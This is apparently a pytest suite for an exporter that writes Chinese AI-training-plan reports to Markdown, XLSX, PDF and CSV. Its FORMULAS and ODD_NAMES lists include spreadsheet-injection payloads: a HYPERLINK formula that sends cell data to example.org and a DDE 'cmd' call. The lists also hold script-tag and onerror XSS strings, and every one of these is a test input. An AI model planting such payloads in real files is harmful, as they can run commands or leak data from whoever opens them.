"""Reports as files: what is written is read back, by other programs' readers where they are to be opened by other programs."""

from __future__ import annotations

import csv
import errno
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from fontTools.ttLib import TTFont
from openpyxl import load_workbook
from pypdf import PageObject, PdfReader

from advisor.errors import AdvisorError, InputError
from advisor.export import Part, Report, export, neutral, write_csv
from advisor.export_lines import columns, lines
from advisor.export_pdf import MOST_ROWS
from advisor.export_text import Run, styled
from advisor.framework import Framework
from advisor.types import Block, Bullets, Evidence, Grid, Paragraph, Statement

GOAL = "目標：熟悉並能熟練應用特定 AI 工具完成日常工作任務。"
TIER = "第二階：工具類 (Tooling)"
SAID = Evidence("goal", 10, GOAL, "guideline")
READ = Evidence("tier", 10, TIER, "reading")
OURS = Evidence("rule", 10, TIER, "rubric")
SUMMARY = "團隊共 **24 人**，其中 9 人已具備 No-code 區的能力。"

# What Excel, LibreOffice and Google Sheets would run, and how it may be hidden.
FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"王小明")',
    "=cmd|' /C calc'!A0",
    "+1",
    "+886-2-1234",
    "-2+3",
    "-",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "　=1+1",
    "\ufeff=1",
    "\x00=1",
    "＝1+1",
    "＋1",
    "－2",
    "＠SUM(A1)",
    "**=1+1**",
]

ODD_NAMES = [
    "游錫堃",
    "陶喆",
    "刘德华",
    "Nguyễn Thị Hồng Nhung",
    "Nguye\u0302\u0303n",
    "𠮷野家",
    "王😀明",
    "👨‍👩‍👧",
    "김철수",
    "محمد",
    "a\ud800b",
    "c\x00d\x07e\x1b[31m",
    "\u202e明小王",
    "\ufffe\uffff",
    "",
    " ",
    "王\n大\n明",
    "Pneumonoultramicroscopicsilicovolcanoconiosis" * 9,
    "中" * 3000,
    "「（『" * 200,
    "。，）」" * 200,
    "a" * 5_000,
    "#N/A",
    "<script>alert(1)</script>",
    "a|b",
]


def report(*blocks: Block, heading: str = "每個人的建議", title: str = "行銷團隊的 AI 人才培育計畫", date: str | None = None) -> Report:
    return Report(title, "zh-TW", (Part(heading, blocks),), date=date)


def people(count: int, width: int = 4) -> Grid:
    header = ("姓名", "職務", "建議認證", "符合度", *(f"能力 {place}" for place in range(5, 30)))[:width]
    rows = tuple((f"第{place}號", "AI 應用規劃師", TIER, f"{place % 100}%", *["文書應用"] * 25)[:width] for place in range(1, count + 1))
    return Grid(header, rows, ((),) * count)


def names(*texts: str) -> Grid:
    return Grid(("姓名", "備註"), tuple((text, "無") for text in texts), ((),) * len(texts))


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


@pytest.fixture
def plan() -> Report:
    cited = Statement("行銷人員適合第二階。", (SAID, READ))
    return Report(
        "行銷團隊的 AI 人才培育計畫",
        "zh-TW",
        (
            Part("摘要", (Paragraph((Statement(SUMMARY, (SAID,)), cited)), Bullets((Statement("先盤點", (OURS,)), Statement("再對標"))))),
            Part("每個人的建議", (Grid(("姓名", "職務", "分數"), (("王小明", "企劃", "85"), ("陳怡君", "行政", "-3")), ((READ,), ())),)),
        ),
        ("分數是本工具的規則。",),
        "2026-11-23",
    )


@pytest.fixture
def written(framework: Framework, tmp_path: Path) -> Any:
    """Exports a report and gives the path."""

    def write(report: Report, name: str) -> Path:
        path = tmp_path / name
        export(report, framework, path)
        return path

    return write


SOURCES = [
    f"[1] §10 AI 人才認證三階分類框架（指引原文）「{GOAL}」",
    f"[2] §10 AI 人才認證三階分類框架（依版面推讀，非原文）「{TIER}」",
    f"[3] §10 AI 人才認證三階分類框架（本工具規則）「{TIER}」",
]


class TestMarkdown:
    def test_holds_the_parts_in_order_and_the_sources_last(self, plan: Report, written: Any) -> None:
        text = written(plan, "plan.md").read_text(encoding="utf-8")
        assert text.startswith("# 行銷團隊的 AI 人才培育計畫\n\n2026-11-23\n\n## 摘要\n\n")
        assert f"{SUMMARY}[1]行銷人員適合第二階。[1][2]\n\n- 先盤點[3]\n- 再對標\n\n## 每個人的建議\n\n| 姓名 | 職務 | 分數 |" in text
        assert "| 王小明 | 企劃 | 85[2] |" in text
        assert text.endswith("## 說明\n\n- 分數是本工具的規則。\n\n## 出處\n\n" + "\n\n".join(SOURCES) + "\n")

    def test_names_cannot_bring_html(self, written: Any) -> None:
        text = written(report(names("<img src=x onerror=alert(1)>")), "a.md").read_text(encoding="utf-8")
        assert r"| \<img src=x" in text

    def test_an_english_report_says_everything_in_english_but_the_quote(self, written: Any) -> None:
        english = Report("Plan", "en", (Part("Summary", (Paragraph((Statement("One.", (SAID,)), Statement("Two.", (OURS,)))),)),))
        text = written(english, "a.md").read_text(encoding="utf-8")
        assert "One.[1] Two.[2]\n\n## Sources\n\n[1] §10 The three-tier framework of AI talent certification (Guideline text) 「" in text
        assert "(This tool's own rule) 「" in text


class TestSpreadsheet:
    def test_a_sheet_for_the_text_each_table_and_the_sources(self, plan: Report, written: Any) -> None:
        book = load_workbook(written(plan, "plan.xlsx"))
        assert book.sheetnames == ["報告", "每個人的建議", "出處"]
        text = [row[0] for row in book["報告"].values if row[0]]
        assert text[:4] == [plan.title, "2026-11-23", "摘要", f"{SUMMARY.replace('**', '')}[1]行銷人員適合第二階。[1][2]"]
        assert text[4:] == ["• 先盤點[3]", "• 再對標", "每個人的建議", "表格在工作表「每個人的建議」。", "說明", "• 分數是本工具的規則。"]
        assert list(book["出處"].values)[1:] == [
            (1, "§10", "AI 人才認證三階分類框架", GOAL, "指引原文"),
            (2, "§10", "AI 人才認證三階分類框架", TIER, "依版面推讀，非原文"),
            (3, "§10", "AI 人才認證三階分類框架", TIER, "本工具規則"),
        ]

    def test_numbers_are_numbers_and_markers_have_their_own_column(self, plan: Report, written: Any) -> None:
        sheet = load_workbook(written(plan, "plan.xlsx"))["每個人的建議"]
        assert list(sheet.values) == [("姓名", "職務", "分數", "出處"), ("王小明", "企劃", 85, "[2]"), ("陳怡君", "行政", -3, None)]
        assert [sheet["C3"].data_type, sheet["A2"].data_type] == ["n", "s"]

    @pytest.mark.parametrize(
        ("cell", "value"),
        [
            ("85", 85),
            ("-3", -3),
            ("3.5", 3.5),
            ("0", 0),
            ("85%", 0.85),
            ("12.5%", 0.125),
            ("1,234", "1,234"),
            ("８５", "８５"),
            ("1e5", "1e5"),
        ],
    )
    def test_what_counts_as_a_number(self, cell: str, value: object, written: Any) -> None:
        sheet = load_workbook(written(report(Grid(("a", "b"), (("x", cell),), ((),))), "a.xlsx")).worksheets[1]
        assert sheet["B2"].value == value
        if cell.endswith("%"):
            assert sheet["B2"].number_format in ("0%", "0.0%")

    def test_digits_that_are_names_stay_as_they_are_typed(self, written: Any) -> None:
        grid = Grid(("工號", "卡號"), (("0042", "1"), ("1234", "1234567890123456789")), ((), ()))
        sheet = load_workbook(written(report(grid), "a.xlsx")).worksheets[1]
        assert list(sheet.values)[1:] == [("0042", "1"), ("1234", "1234567890123456789")]

    def test_the_header_is_bold_stays_in_sight_and_filters(self, written: Any) -> None:
        sheet = load_workbook(written(report(people(30)), "a.xlsx")).worksheets[1]
        assert sheet["A1"].font.bold and not sheet["A2"].font.bold
        assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A2", "A1:D31", "$1:$1")

    def test_columns_are_as_wide_as_chinese_needs(self, written: Any) -> None:
        grid = Grid(("姓名", "職務"), (("王小明", "AI 應用規劃師兼資料分析師"), ("陳怡君", "字" * 500)), ((), ()))
        sheet = load_workbook(written(report(grid), "a.xlsx")).worksheets[1]
        assert sheet.column_dimensions["A"].width >= 6
        assert sheet.column_dimensions["B"].width == 60
        assert sheet["B3"].alignment.wrap_text and sheet.row_dimensions[3].height > 200

    @pytest.mark.parametrize("text", FORMULAS)
    def test_no_cell_is_run(self, text: str, written: Any) -> None:
        grid = Grid(("姓名", text), ((text, "x"),), ((OURS,),))
        made = Report(text, "zh-TW", (Part(text, (Paragraph((Statement(text),)), Bullets((Statement(text),)), grid)),), (text,), text)
        path = written(made, "a.xlsx")
        for sheet in load_workbook(path):
            for cell in (cell for row in sheet.iter_rows() for cell in row if cell.value is not None):
                assert cell.data_type in ("s", "n"), cell
                assert cell.data_type == "n" or not re.match(r"[\s\ufeff]*[=+\-@＝＋－＠]", cell.value), cell
                assert cell.data_type == "s" or isinstance(cell.value, int)

    @pytest.mark.parametrize("text", ODD_NAMES)
    def test_any_name_can_be_written(self, text: str, written: Any) -> None:
        sheet = load_workbook(written(report(names(text), heading=text), "a.xlsx")).worksheets[1]
        assert sheet["B2"].value == "無"
        assert sheet["A2"].data_type in ("s", "n")

    def test_a_rare_name_is_kept(self, written: Any) -> None:
        book = load_workbook(written(report(names("𠮷野家", "王😀明", "#N/A")), "a.xlsx"))
        assert [cell.value for cell in book.worksheets[1]["A"]] == ["姓名", "𠮷野家", "王😀明", "#N/A"]

    def test_sheet_titles_obey_excel(self, written: Any) -> None:
        headings = ["a/b\\c[d]:e*f?", "很長的標題" * 10, "很長的標題" * 10, "'引號'", "History", "報告", "", "😀" * 40, "Abc", "ABC"]
        made = Report("r", "zh-TW", tuple(Part(heading, (people(1),)) for heading in headings))
        titles = load_workbook(written(made, "a.xlsx")).sheetnames
        assert titles[:3] == ["報告", "a b c d e f", ("很長的標題" * 10)[:31]]
        assert len({title.lower() for title in titles}) == len(headings) + 1
        for title in titles:
            assert 0 < len(title.encode("utf-16-le")) / 2 <= 31
            assert not re.search(r"[\[\]:*?/\\]", title) and title.strip("'") == title and title.lower() != "history"

    def test_thousands_of_people_are_all_there(self, written: Any) -> None:
        book = load_workbook(written(report(people(5000)), "a.xlsx"), read_only=True)
        rows = list(book.worksheets[1].values)
        assert len(rows) == 5001
        assert rows[-1] == ("第5000號", "AI 應用規劃師", TIER, 0)


def text_of(page: PageObject) -> str:
    return squeezed(page.extract_text())


def text_of_all(path: Path) -> str:
    return "".join(text_of(page) for page in PdfReader(path).pages)


def is_landscape(page: PageObject) -> bool:
    return bool(page.mediabox.width > page.mediabox.height)


class TestPdf:
    def test_every_sentence_can_be_found_and_the_sources_are_last(self, plan: Report, written: Any) -> None:
        text = text_of_all(written(plan, "plan.pdf"))
        for sentence in (plan.title, "2026-11-23", "團隊共24人，其中9人已具備No-code區的能力。[1]行銷人員適合第二階。[1][2]", "•先盤點[3]"):
            assert squeezed(sentence) in text
        assert "王小明企劃85[2]陳怡君行政-3" in text
        assert squeezed("".join(SOURCES)) in text[text.index("出處") :]

    def test_its_only_font_is_embedded_and_a_subset(self, plan: Report, written: Any) -> None:
        path = written(plan, "plan.pdf")
        fonts: dict[Any, Any] = {}
        for page in PdfReader(path).pages:
            resources: Any = page["/Resources"]
            fonts |= {font["/BaseFont"]: font for font in (item.get_object() for item in resources["/Font"].values())}
        (font,) = fonts.values()
        descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"]
        assert "/FontFile2" in descriptor or "/FontFile3" in descriptor
        assert "/ToUnicode" in font
        assert path.stat().st_size < 100_000

    def test_pages_are_numbered_and_carry_the_title(self, written: Any) -> None:
        pages = PdfReader(written(report(people(100), date="2026-11-23"), "a.pdf")).pages
        assert len(pages) > 2
        for number, page in enumerate(pages, 1):
            text = text_of(page)
            assert text.endswith(f"{number}/{len(pages)}")
            assert squeezed("行銷團隊的 AI 人才培育計畫") in text and "2026-11-23" in text

    def test_the_header_row_is_on_every_page_of_the_table(self, written: Any) -> None:
        pages = PdfReader(written(report(people(100)), "a.pdf")).pages
        assert [text_of(page).count("姓名職務建議認證符合度") for page in pages] == [1] * len(pages)
        everything = "".join(text_of(page) for page in pages)
        assert all(f"第{place}號AI應用規劃師" in everything for place in range(1, 101))

    @pytest.mark.parametrize(("width", "landscape"), [(7, False), (8, True), (25, True)])
    def test_a_wide_table_lies_on_landscape_pages(self, width: int, landscape: bool, written: Any) -> None:
        first, *_, last = PdfReader(
            written(Report("r", "zh-TW", (Part("a", (Paragraph((Statement("文", (SAID,)),)),)), Part("b", (people(40, width),)))), "a.pdf")
        ).pages
        assert not is_landscape(first)
        assert not is_landscape(last), "the sources stand upright"
        middle = PdfReader(written(report(people(40, width)), "b.pdf")).pages
        assert all(is_landscape(page) == landscape for page in middle)
        assert all(float(page.mediabox.width) == pytest.approx(841.89 if landscape else 595.28, abs=0.1) for page in middle)

    def test_a_long_list_is_cut_and_says_so(self, written: Any) -> None:
        text = text_of_all(written(report(people(MOST_ROWS + 1200)), "a.pdf"))
        assert f"第{MOST_ROWS}號" in text and f"第{MOST_ROWS + 1}號" not in text
        assert "這裡列出前300列；其餘1,200列請見同一份報告的XLSX檔。" in text

    def test_a_list_that_fits_is_whole_and_says_nothing(self, written: Any) -> None:
        text = text_of_all(written(report(people(MOST_ROWS)), "a.pdf"))
        assert f"第{MOST_ROWS}號" in text and "XLSX" not in text

    def test_any_name_can_be_written_anywhere(self, written: Any) -> None:
        odd = {text: Statement(text, (SAID,)) for text in (*ODD_NAMES, *FORMULAS)}
        parts = tuple(Part(text, (Paragraph((said,)), Bullets((said,)), names(text, text))) for text, said in odd.items())
        text = text_of_all(written(Report("r", "zh-TW", parts, tuple(odd)), "a.pdf"))
        assert text.count("姓名備註") >= len(odd)

    @pytest.mark.parametrize("text", ["", "王😀明\ud800\x00\n=1", "中" * 3000, "a" * 3000])
    def test_any_title_and_date_can_be_written(self, text: str, written: Any) -> None:
        assert "姓名備註" in text_of_all(written(report(names("王小明"), heading=text, title=text, date=text), "a.pdf"))

    def test_characters_that_the_font_lacks_can_still_be_found(self, written: Any) -> None:
        text = text_of_all(written(report(names("𠮷野家", "王😀明", "김철수", "游錫堃", "Nguye\u0302\u0303n")), "a.pdf"))
        for name in ("𠮷野家", "王😀明", "김철수", "游錫堃", "Nguyễn"):
            assert name in text

    def test_nothing_is_said_about_missing_characters(self, written: Any, capfd: pytest.CaptureFixture[str], caplog: Any) -> None:
        written(report(names("王😀明")), "a.pdf")
        assert not caplog.records
        assert capfd.readouterr() == ("", "")

    def test_a_cell_longer_than_a_page_goes_on_on_the_next(self, written: Any) -> None:
        numbered = "".join(f"第{place}句。" for place in range(1500))
        pages = PdfReader(written(report(Grid(("題", "答"), (("一", numbered), ("二", "短")), ((), ()))), "a.pdf")).pages
        bare = [text_of(page).removesuffix(f"{number}/{len(pages)}") for number, page in enumerate(pages, 1)]
        text = "".join(page.removeprefix("行銷團隊的AI人才培育計畫題答") for page in bare)
        assert numbered + "二短" in text
        assert len(pages) < 5

    def test_a_marker_leads_to_its_source(self, plan: Report, written: Any) -> None:
        reader = PdfReader(written(plan, "plan.pdf"))
        links = [note.get_object() for note in reader.pages[0]["/Annots"]]
        assert len(links) == 5
        tops = sorted({float(link["/Dest"][3]) for link in links}, reverse=True)
        assert len(tops) == 3, "each source its own place"

    def test_parts_are_bookmarks(self, plan: Report, written: Any) -> None:
        reader = PdfReader(written(plan, "plan.pdf"))
        assert [entry["/Title"] for entry in reader.outline] == ["摘要", "每個人的建議", "說明", "出處"]
        assert reader.metadata is not None and reader.metadata.title == plan.title

    def test_a_report_without_parts_is_a_page(self, written: Any) -> None:
        assert (
            len(PdfReader(written(Report("空", "zh-TW", (Part("", (Grid((), (), ()), Bullets(()), Paragraph(()))),)), "a.pdf")).pages) == 1
        )
        assert len(PdfReader(written(Report("空", "zh-TW", ()), "b.pdf")).pages) == 1


@pytest.mark.parametrize("ending", [".md", ".xlsx", ".pdf"])
class TestFiles:
    def test_equal_reports_are_equal_files(self, ending: str, plan: Report, written: Any, monkeypatch: pytest.MonkeyPatch) -> None:
        first = written(plan, f"first{ending}").read_bytes()
        monkeypatch.setattr("time.time", lambda: 4e9)
        assert written(plan, f"second{ending}").read_bytes() == first

    def test_the_ending_may_be_in_capitals(self, ending: str, plan: Report, written: Any) -> None:
        assert written(plan, f"PLAN{ending.upper()}").stat().st_size > 500

    @pytest.mark.parametrize("folder", ["missing", "file"])
    def test_a_folder_that_cannot_be_written_is_told(
        self, ending: str, folder: str, plan: Report, framework: Framework, tmp_path: Path
    ) -> None:
        (tmp_path / "file").write_text("")
        with pytest.raises(AdvisorError, match="cannot be written") as told:
            export(plan, framework, tmp_path / folder / f"plan{ending}")
        assert told.value.remedy

    def test_a_full_disk_leaves_what_was_there(
        self, ending: str, plan: Report, framework: Framework, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        def full(_: int) -> None:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        path = tmp_path / f"plan{ending}"
        path.write_text("yesterday's")
        monkeypatch.setattr("os.fsync", full)
        with pytest.raises(AdvisorError, match="No space left") as told:
            export(plan, framework, path)
        assert told.value.remedy
        assert path.read_text() == "yesterday's"
        assert list(tmp_path.iterdir()) == [path]

    def test_a_report_takes_the_place_of_an_older_one(self, ending: str, plan: Report, written: Any, tmp_path: Path) -> None:
        (tmp_path / f"plan{ending}").write_text("yesterday's")
        path = written(plan, f"plan{ending}")
        assert b"yesterday" not in path.read_bytes()
        assert list(tmp_path.iterdir()) == [path]


def test_another_ending_is_refused_with_those_that_there_are(plan: Report, framework: Framework, tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"plan\.docx is not .* \.md, \.xlsx or \.pdf"):
        export(plan, framework, tmp_path / "plan.docx")


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_formulas_are_neutral(text: str) -> None:
    assert neutral(text) == "'" + text.replace("\x00", "")
    assert neutral(neutral(text)) == neutral(text)


@pytest.mark.parametrize("text", ["", "王小明", "AI-901", "a=b", "第一階 + 第二階", "—", "85", "'=1", "(−3)", "•"])
def test_other_text_stays(text: str) -> None:
    assert neutral(text) == text


def test_csv_opens_as_utf8_runs_nothing_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    write_csv(path, [("姓名", "分數"), ("=1+1", -5), ('王"小,明', 3.5), ("-5", 0), ("a\ud800", 1)])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [["姓名", "分數"], ["'=1+1", "-5"], ['王"小,明', "3.5"], ["'-5", "0"], ["a\ufffd", "1"]]


def test_csv_in_a_missing_folder_is_told(tmp_path: Path) -> None:
    with pytest.raises(AdvisorError, match="cannot be written"):
        write_csv(tmp_path / "missing" / "a.csv", [])


def test_bold_is_a_run_of_its_own() -> None:
    assert styled("共 **24 人**，2 ** 3") == (Run("共 "), Run("24 人", bold=True), Run("，2 ** 3"))


@pytest.mark.parametrize(
    ("text", "width", "expected"),
    [
        ("中文可在任何字後換行", 4, ["中文可在", "任何字後", "換行"]),
        ("句號不在行首。好", 6, ["句號不在行", "首。好"]),
        ("前「引號不在行尾」", 2, ["前", "「引", "號不", "在行", "尾」"]),
        ("use the AI tools", 8, ["use the", "AI tools"]),
        ("使用 AI 工具", 5, ["使用 AI", "工具"]),
        ("incomprehensible", 6, ["incomp", "rehens", "ible"]),
        ("一\n二", 9, ["一", "二"]),
        ("", 9, [""]),
    ],
)
def test_where_lines_end(text: str, width: float, expected: list[str]) -> None:
    def measure(text: str, run: Run) -> float:
        return len(text)

    assert ["".join(run.text for run in line) for line in lines([Run(text)], width, measure)] == expected


def test_a_marker_stays_with_its_sentence_but_a_row_of_them_may_break() -> None:
    runs = [Run("四個字。"), *(Run(f"[{number}]", marker=number) for number in (1, 2, 3))]
    found = [[run.text for run in line] for line in lines(runs, 7, lambda text, run: len(text))]
    assert found == [["四個字。", "[1]"], ["[2]", "[3]"]]


def test_columns_fill_the_room() -> None:
    assert columns([10, 10], [20, 30], 100) == [40, 60]
    assert sum(columns([10, 10, 10], [10, 40, 4000], 100)) == pytest.approx(100)
    assert columns([10, 10, 10], [10, 40, 4000], 100)[:2] == pytest.approx([10, 19], abs=9)
    assert columns([100, 300], [500, 500], 100) == [25, 75]


def test_the_font_has_the_characters_of_names() -> None:
    (file,) = (Path(__file__).parent.parent / "advisor" / "fonts").glob("*.woff")
    known = TTFont(file).getBestCmap().keys()
    assert set(range(0x4E00, 0x9FF0)) <= known
    assert all(ord(char) in known for char in "→·●○✓–—…「」『』《》【】（）：；／％①②③ㄅㄆㄇˊˋ˙éüñ")


def test_knowing_how_to_export_loads_no_library_for_it() -> None:
    code = "import sys, advisor.export; print([name for name in ('openpyxl', 'fpdf', 'fontTools') if name in sys.modules])"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"
